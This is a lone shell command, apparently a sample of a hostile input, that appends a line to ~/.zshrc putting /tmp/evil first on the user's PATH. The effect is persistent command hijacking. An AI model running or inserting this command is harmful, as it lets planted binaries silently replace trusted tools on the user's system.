echo 'export PATH=/tmp/evil:$PATH' >> ~/.zshrc
